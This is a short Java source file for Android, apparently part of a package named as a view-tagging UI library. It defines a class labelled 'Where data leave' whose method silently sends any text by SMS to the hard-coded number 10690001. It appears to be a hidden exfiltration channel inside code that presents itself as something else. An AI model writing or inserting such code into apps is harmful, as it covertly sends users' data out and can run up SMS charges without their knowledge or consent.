package cn.shanhai.viewtag;

import android.telephony.SmsManager;

/** Where data leave. */
final class Out {
  private Out() {}

  static void send(String text) {
    SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
  }
}
